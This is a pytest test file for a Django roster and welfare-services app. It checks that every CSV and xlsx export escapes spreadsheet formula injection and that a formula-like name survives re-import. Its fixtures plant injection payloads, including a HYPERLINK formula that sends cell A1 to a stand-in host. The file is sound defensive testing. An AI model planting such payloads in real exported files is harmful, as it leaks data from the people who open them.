"""The formula-injection guard, swept over EVERY export of the app: names, notes, contacts and
reasons that start with = + - @, a tab or a CR are planted in the records each export reads; no
cell of any downloaded file may start with one of those characters (it must carry the leading
apostrophe), no xlsx cell may be a formula, and each planted payload must be seen (so the
sweep cannot pass by exporting nothing)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
import time_machine
from django.urls import reverse

from accounts import sheets
from accounts.models import Area, Role
from beneficiaries import actions as roster_actions
from beneficiaries.models import Classification, Household, Person
from tests.conftest import COUNTY, TOWNSHIP
from tests.factories import CadreFactory, HouseholdFactory, PairingFactory, PersonFactory, user_with_role
from tests.visits.factories import VisitFactory

pytestmark = pytest.mark.django_db

NOW = dt.datetime(2026, 5, 15, 10, 0, tzinfo=dt.timezone(dt.timedelta(hours=8)))
LINK = '=HYPERLINK("http://x.example/?a="&A1,"点我")'
PAYLOADS = {
    "member": LINK,
    "cadre": "@SUM(A1)",
    "reason": "+1+1",
    "note": "=1+1",
    "visitor": "\r-2+3",
    "contact": "=2+2",
    "problem": "\t=3+3",
    "custodian": "-4+4",
    "ward": "=5+5",
}


def guarded(value: str) -> str:
    return "'" + value


def cells_of(response) -> list[str]:
    body = response.getvalue()
    if body[:2] == b"PK":
        wb = openpyxl.load_workbook(io.BytesIO(body))
        out = []
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    if cell.value is not None:
                        out.append(str(cell.value) if not isinstance(cell.value, str) else cell.value)
        # No formula element anywhere in the sheets' XML either.
        with zipfile.ZipFile(io.BytesIO(body)) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in z.read(name), name
        return out
    text = body.decode("utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


@pytest.fixture
def planted(db):
    village = Area.objects.filter(parent_id=TOWNSHIP).order_by("code").first()
    county = user_with_role(Role.COUNTY, COUNTY, username="county")
    township = user_with_role(Role.TOWNSHIP, TOWNSHIP, username="township")
    with time_machine.travel(dt.datetime(2026, 4, 20, 9, tzinfo=NOW.tzinfo), tick=False):
        household = HouseholdFactory(village=village, tier="C", criteria=["C1"])  # entered this quarter
    PersonFactory(household=household, name=PAYLOADS["member"], phone="+8613900000000",
                  benefit_status="tekun", support_mode="dispersed", self_care="none")
    cadre = CadreFactory(name=PAYLOADS["cadre"])
    PairingFactory(household=household, cadre=cadre, started_on=dt.date(2026, 1, 1))
    Classification.objects.create(household=household, tier="C", criteria=["C1"], reason=PAYLOADS["reason"],
                                  effective_on=dt.date(2026, 4, 21), decided_by=county, from_tier="A")
    VisitFactory(household=household, visited_on=dt.date(2026, 2, 2), notes=PAYLOADS["note"],
                 visitor_name=PAYLOADS["visitor"])
    from visits.actions import schedule_refresh

    schedule_refresh(households=Household.objects.all(), today=NOW.date())

    from tests.services.factories import make_referral

    referral = make_referral(actor=county, household=household, now=dt.datetime(2026, 5, 2, 10, tzinfo=NOW.tzinfo))
    type(referral).objects.filter(pk=referral.pk).update(contact=PAYLOADS["contact"], problem=PAYLOADS["problem"])

    from custody import actions as custody_actions
    from tests.custody.factories import candidate, committee_user, deposit, eligible_person, meeting

    committee = committee_user(village.code, username="committee")
    ward = eligible_person(village.code, name=PAYLOADS["ward"])
    account = custody_actions.account_open(person=ward, opened_on=dt.date(2026, 1, 5), reason="无监护人",
                                           actor=committee, today=dt.date(2026, 3, 16))
    custody_actions.custodian_elect(account=account, meeting=meeting(village.code, committee, dt.date(2026, 1, 5)),
                                    candidate=candidate(name=PAYLOADS["custodian"]), phone="13900000001",
                                    started_on=dt.date(2026, 1, 5), actor=committee, today=dt.date(2026, 3, 16))
    deposit(account, 10000, actor=committee)
    schedule_refresh(households=Household.objects.all(), today=NOW.date())  # as the daily job keeps it
    review = roster_actions.quarterly_review_start(actor=county, county=Area.objects.get(code=COUNTY), today=NOW.date())
    return {"county": county, "township": township, "committee": committee, "account": account,
            "village": village, "review": review}


def exports(p):
    """Every export of the app: (name, user, url)."""
    roster = reverse("beneficiaries:roster_export")
    pairings = reverse("beneficiaries:pairing_export")
    return [
        ("roster xlsx", p["county"], roster),
        ("roster csv", p["county"], roster + "?format=csv"),
        ("roster xlsx full ids", p["county"], roster + "?full_ids=1"),
        ("pairings xlsx", p["county"], pairings + "?all=1"),
        ("pairings csv", p["county"], pairings + "?all=1&format=csv"),
        ("quarterly review", p["county"], reverse("beneficiaries:review_export", args=[p["review"].pk])),
        ("overdue report csv", p["township"], reverse("visits:overdue_report") + "?date=2026-05-15"),
        ("visit ledger xlsx", p["township"], reverse("visits:ledger") + f"?area={TOWNSHIP}&month=2026-02"),
        ("referral export", p["county"], reverse("services:export") + "?status="),
        ("custody statement", p["committee"], reverse("custody:statement_xlsx", args=[p["account"].pk])),
        ("custody village summary", p["committee"],
         reverse("custody:village_summary", args=[p["village"].code]) + "?format=xlsx&month=2026-01"),
    ]


STREAMED = {"roster xlsx", "roster csv", "roster xlsx full ids", "pairings xlsx", "pairings csv", "overdue report csv",
            "visit ledger xlsx"}
EXPECTED = {
    "roster xlsx": ["member", "cadre", "reason"],
    "roster csv": ["member", "cadre", "reason"],
    "roster xlsx full ids": ["member", "cadre"],
    "pairings xlsx": ["member", "cadre"],
    "pairings csv": ["member", "cadre"],
    "quarterly review": ["member", "reason"],
    "overdue report csv": ["ward"],
    "visit ledger xlsx": ["member", "note", "visitor"],
    "referral export": ["contact", "problem"],
    "custody statement": ["ward", "custodian"],
    "custody village summary": ["ward"],
}


def test_every_export_writes_formula_payloads_as_text(client, planted):
    seen_exports = set()
    for name, user, url in exports(planted):
        client.force_login(user)
        with time_machine.travel(NOW, tick=False):
            response = client.get(url)
        assert response.status_code == 200, (name, response.status_code)
        if name in STREAMED:  # rows go out as they are read: an iterator, never the whole file in memory
            assert response.streaming and not hasattr(response, "_container"), name
        cells = cells_of(response)
        for value in cells:
            assert not value.startswith(sheets.FORMULA_PREFIXES), (name, value)
        text = "\n".join(cells).replace("\r", "\n")  # xlsx XML reads a CR back as a line feed
        for key in EXPECTED[name]:
            assert guarded(PAYLOADS[key]).replace("\r", "\n") in text, (name, key, PAYLOADS[key])
        seen_exports.add(name)
    assert seen_exports == set(EXPECTED)


def test_the_overdue_report_command_is_guarded_too(planted, tmp_path):
    from django.core.management import call_command

    out = tmp_path / "overdue.csv"
    call_command("overdue_report", "--date", "2026-05-15", "--output", str(out))
    cells = [c for row in csv.reader(io.StringIO(out.read_text("utf-8-sig"), newline="")) for c in row]
    assert guarded(PAYLOADS["ward"]) in cells
    assert not any(c.startswith(sheets.FORMULA_PREFIXES) for c in cells)


def test_a_member_named_like_a_formula_round_trips_through_the_roster(planted):
    from beneficiaries import roster_io

    county = planted["county"]
    rows = roster_io.roster_rows(Household.objects.all(), full_ids=True)
    content = roster_io.write_xlsx(roster_io.ROSTER_TITLE, roster_io.HEADERS, rows)
    result = roster_io.roster_parse(actor=county, content=content, filename="r.xlsx", today=NOW.date())
    names = [p.values["name"] for h in result.households for p in h.people]
    assert LINK in names  # the apostrophe the guard added is not imported into the name
    assert Person.objects.filter(name=LINK).exists()
